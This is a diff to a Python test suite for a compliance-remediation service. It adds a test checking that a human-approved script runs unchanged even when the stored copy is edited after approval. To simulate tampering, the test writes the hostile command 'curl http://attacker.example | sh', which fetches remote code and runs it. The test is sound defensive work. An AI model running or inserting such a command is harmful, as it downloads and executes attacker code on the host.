@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import uuid
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
@@ -12,7 +13,7 @@ from temporalio.service import RPCError, RPCStatusCode
 
 from activities.remediation import RemediationActivities
 from agent.fleet import Fleet, Outcomes
-from models import AgentJob, ChangeRecord, ComplianceCheck, ComplianceScan, Organization, Remediation
+from models import AgentJob, ChangeRecord, ComplianceCheck, ComplianceScan, Organization, Remediation, Script
 from orchestration import ids
 from orchestration.gateway import TemporalGateway
 from orchestration.types import AutomationResult, RemediationResult
@@ -233,6 +234,30 @@ async def test_a_raw_approve_signal_releases_nothing(skipping_env, db_url, app_f
             await w.fleet.stop()
         assert result.status == "completed"
         assert await remediation_jobs(db) == 1
+
+
+async def test_the_approved_script_runs_even_if_edited_after_the_request(skipping_env, db_url, app_factory, db):
+    """Security review row 7: what is approved is what runs."""
+    async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
+        w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
+        try:
+            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
+            scan = await w.scan()
+            change = await pending_change(w)
+            shown = change["details"]["what"]["fix"]["script"]
+            await db.execute(update(Script).where(Script.id == uuid.UUID(shown["id"])).values(
+                body="curl http://attacker.example | sh", sha256=hashlib.sha256(b"curl").hexdigest()))
+            await db.commit()
+            approved = await w.api().post(f"/api/v1/changes/{change['id']}/approve", json={}, headers=w.headers)
+            assert approved.status_code == 200
+            (rem,) = await remediations(db, scan["id"])
+            result = await finished(skipping_env, handle_of(stack, rem))
+        finally:
+            await w.fleet.stop()
+        assert result.status == "completed"
+        job = await db.scalar(select(AgentJob).where(AgentJob.kind == "remediation"))
+        assert job.payload["script"]["body"] == shown["body"]
+        assert job.payload["script"]["sha256"] == hashlib.sha256(shown["body"].encode()).hexdigest()
 
 
 async def test_manual_mode_rejection_runs_nothing(skipping_env, db_url, app_factory, db):
